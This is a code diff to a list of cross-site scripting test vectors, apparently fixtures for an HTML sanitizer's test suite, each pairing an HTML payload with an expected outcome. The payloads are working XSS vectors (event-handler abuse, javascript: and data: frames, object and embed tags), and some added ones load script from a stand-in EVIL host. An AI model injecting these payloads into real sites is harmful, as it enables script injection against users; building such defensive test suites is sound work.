@@ -49,7 +49,7 @@ export const scripts = [
     '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart=HURT></xss><i style="transition:outline 1s" ontransitionend=HURT tabindex=1></i>',
     'script',
   ],
-  ['marquee', '<marquee onstart=HURT loop=1 width=0 onfinish=HURT>x</marquee>', 'script'],
+  ['marquee', '<marquee onstart=HURT loop=1 width=0 onfinish=HURT>x</marquee>', undefined],
   [
     'content visibility',
     '<p oncontentvisibilityautostatechange=HURT style="display:block;content-visibility:auto">',
@@ -130,13 +130,17 @@ export const scripts = [
     'math link',
     '<math href="javascript:HURT" style="position:fixed;inset:0">CLICK</math><math><maction actiontype="statusline#x" xlink:href="javascript:HURT">x</maction></math>',
   ],
-  ['frame with a document', '<iframe srcdoc="<script>HURT</script>"></iframe>', 'script'],
-  ['frame with javascript:', '<iframe src="javascript:HURT"></iframe>', 'script'],
-  ['frame with data:', '<iframe src="data:text/html,<script>HURT</script>"></iframe>', 'script'],
+  ['frame with a document', '<iframe srcdoc="<script>top.HURT</script>"></iframe>', 'script'],
+  ['frame with javascript:', '<iframe src="javascript:top.HURT"></iframe>', 'script'],
+  [
+    'frame with data:',
+    '<iframe src="data:text/html,<script src=EVIL/data.js></script>"></iframe>',
+    'request',
+  ],
   [
     'object and embed',
-    '<object data="data:text/html,<script>HURT</script>"></object><embed src="data:text/html,<script>HURT</script>">',
-    'script',
+    '<object data="data:text/html,<script src=EVIL/o.js></script>"></object><embed src="data:text/html,<script src=EVIL/e.js></script>">',
+    'request',
   ],
   [
     'object, javascript:',
